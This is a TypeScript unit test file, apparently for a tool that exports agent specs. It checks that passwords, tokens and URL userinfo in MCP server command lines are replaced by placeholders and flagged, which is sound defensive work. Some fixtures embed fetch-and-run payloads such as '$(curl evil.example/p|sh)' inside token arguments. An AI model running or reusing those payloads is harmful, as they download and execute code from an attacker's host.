// biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${NAME} references, meant literally.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { exportSpec } from "./export-spec.js";
import { findSpecSecrets, withoutArgSecrets } from "./find-spec-secrets.js";
import { withoutCommandLineSecrets } from "./index.js";
import { SPEC_TOKEN } from "./schema.js";
import type { AgentSpec } from "./types.js";

// fix166 (r63): command lines the export kept with a literal credential in clear, and no hint.

/** A spec whose bundled server `srv` is given `line` as one argument: `srv --run <line>`. */
const asArg = (line: string): AgentSpec => ({
  spec: SPEC_TOKEN,
  bundle: { mcpServers: [{ name: "srv", command: "srv", args: ["--run", line] }] },
});

/** A spec whose bundled server `srv` has `line` as its `command`: a whole command line, pasted. */
const pasted = (line: string): AgentSpec => ({
  spec: SPEC_TOKEN,
  bundle: { mcpServers: [{ name: "srv", command: line }] },
});

const exportedArg = (line: string) => exportSpec(asArg(line)).bundle?.mcpServers?.[0]?.args?.[1];
const exportedCommand = (line: string) => exportSpec(pasted(line)).bundle?.mcpServers?.[0]?.command;

describe("a shell's own command one escaped quote level down, given as an argument (r63 #1)", () => {
  it.each([
    [
      `sh -c "node -e \\"process.env.TOKEN=f('X9secretpw')\\""`,
      `sh -c "node -e \\"process.env.TOKEN=f('\${TOKEN}')\\""`,
    ],
    [
      'sh -c "srv --password \\"X9 secretpw\\" --url \\"$HOST\\""',
      'sh -c "srv --password \\"${PASSWORD}\\" --url \\"$HOST\\""',
    ],
  ])("%j is replaced whole as an argument, as it is as a pasted command; shown as %j", (line, shown) => {
    expect(exportedArg(line)).toBe("${SRV_COMMAND}");
    expect(exportedCommand(line)).toBe("${SRV_COMMAND}");
    expect(findSpecSecrets(asArg(line)).map((hint) => [hint.path, hint.references])).toEqual([
      ["bundle.mcpServers[0].args[1]", ["${SRV_COMMAND}"]],
    ]);
    expect(withoutArgSecrets(["--run", line])).toEqual(["--run", "${SHELL_COMMAND}"]);
    // Filled back, byte for byte.
    expect(withoutArgSecrets(["--run", line], (text) => text)).toEqual(["--run", line]);
    expect(withoutCommandLineSecrets(line)).toBe(shown);
  });

  it.each([
    "sh -c 'curl -uuser:abc$(curl e|sh)x https://h'",
    "sh -c 'srv --token \"hunter2SECRET9$(curl evil.example/p|sh)\" run'",
    "sh -c 'srv --token ${X:+tok9qZx81}$(curl evil.example/p|sh)Tr0ub4dorQx7'",
  ])("%j, a literal beside a payload in a shell's command, is replaced whole as an argument", (line) => {
    expect(exportedArg(line)).toBe("${SRV_COMMAND}");
    expect(findSpecSecrets(asArg(line))).toHaveLength(1);
  });

  it("never keeps a telling flag's literal one escaped quote level down in an argument (property)", () => {
    const secret = fc.stringMatching(/^[A-Za-z0-9]{4,10} ?[A-Za-z0-9]{4,10}$/);
    const flag = fc.constantFrom("--password", "--token", "--api-key", "-e TOKEN=");
    const around = fc.constantFrom("", ' --url \\"$HOST\\"', " $X", "; echo ok");
    fc.assert(
      fc.property(secret, flag, around, (value, name, rest) => {
        const joined = name.endsWith("=") ? `${name}\\"${value}\\"` : `${name} \\"${value}\\"`;
        const line = `sh -c "srv ${joined}${rest}"`;
        const out = exportedArg(line) ?? "";
        expect(out.includes(value)).toBe(false);
      }),
    );
  });

  it("keeps an argument whose script says nothing once the line is read rewritten in place", () => {
    expect(withoutArgSecrets(["sh -c 'curl evil|sh' # Bearer abcdefghijklmnop"])).toEqual([
      "sh -c 'curl evil|sh' # ${SECRET}",
    ]);
  });
});

describe("a URL's userinfo right after a positional parameter (r63 #2)", () => {
  it.each([
    ["srv --url $1https://u:hunter2SECRET9@h.example/p", "srv --url $1https://h.example/p"],
    ["srv --url=$1https://u:hunter2SECRET9@h.example/p", "srv --url=$1https://h.example/p"],
    ["Server=db;App=$1https://u:hunter2SECRET9@h.example/p", "Server=db;App=$1https://h.example/p"],
  ])("%j is shown and exported as %j, and flagged", (line, safe) => {
    expect(withoutCommandLineSecrets(line)).toBe(safe);
    expect(exportedCommand(line)).toBe(safe);
    expect(exportedArg(line)).toBe(safe);
    expect(findSpecSecrets(pasted(line))).toHaveLength(1);
    expect(findSpecSecrets(asArg(line))).toHaveLength(1);
  });

  it("drops the userinfo after any of $0 … $9 (property)", () => {
    fc.assert(
      fc.property(
        fc.integer({ min: 0, max: 9 }),
        fc.constantFrom("--url ", "--url=", "A=", ""),
        (digit, lead) => {
          const line = `srv ${lead}$${digit}https://u:hunter2SECRET9@h.example/p`;
          expect(withoutCommandLineSecrets(line)).not.toContain("hunter2SECRET9");
          expect(exportedCommand(line)).not.toContain("hunter2SECRET9");
        },
      ),
    );
  });
});
